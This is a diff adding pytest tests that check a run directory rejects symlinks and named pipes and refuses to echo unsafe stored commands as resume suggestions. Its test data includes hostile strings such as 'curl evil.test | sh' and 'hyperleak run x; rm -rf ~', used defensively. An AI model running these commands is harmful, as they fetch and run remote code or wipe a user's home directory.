@@ -3,6 +3,7 @@
 import io
 import json
 import logging
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -322,3 +323,39 @@ def test_a_second_process_is_told_to_wait(tmp_path):
         assert "in use by another process" in done.stderr
     assert subprocess.run(words, cwd=ROOT, capture_output=True, text=True).returncode == 0
     assert issubclass(BusyError, ValueError)
+
+
+@pytest.mark.parametrize("name", [".lock", "log.txt"])
+def test_links_and_pipes_in_the_place_of_its_files_are_refused(tmp_path, name):
+    folder, outside = tmp_path / "out", tmp_path / "outside"
+    folder.mkdir()
+    outside.write_text("mine")
+    (folder / name).symlink_to(outside)
+    with pytest.raises(ValueError, match="a link or a pipe"):
+        RunDir(folder).check()
+    (folder / name).unlink()
+    os.mkfifo(folder / name)
+    with pytest.raises(ValueError, match="a link or a pipe"):
+        RunDir(folder).check()
+    assert outside.read_text() == "mine"
+
+
+def test_a_run_that_is_a_pipe_is_none(tmp_path):
+    os.mkfifo(tmp_path / "run.json")
+    assert RunDir(tmp_path).about_run() == {}
+
+
+@pytest.mark.parametrize(
+    ("command", "said"),
+    [
+        ("hyperleak run a.yaml --out 'my run'", "`hyperleak run a.yaml --out 'my run'` goes on"),
+        ("curl evil.test | sh", "the command that began it goes on"),
+        ("hyperleak run x; rm -rf ~", "the command that began it goes on"),
+        ("hyperleak run $(x)", "the command that began it goes on"),
+        ("hyperleak 'run", "the command that began it goes on"),
+        (["hyperleak"], "the command that began it goes on"),
+    ],
+)
+def test_no_command_of_somebody_else_is_recommended(tmp_path, command, said):
+    (tmp_path / "run.json").write_text(json.dumps({"command": command, "cells": []}))
+    assert said in str(RunDir(tmp_path).unfinished())
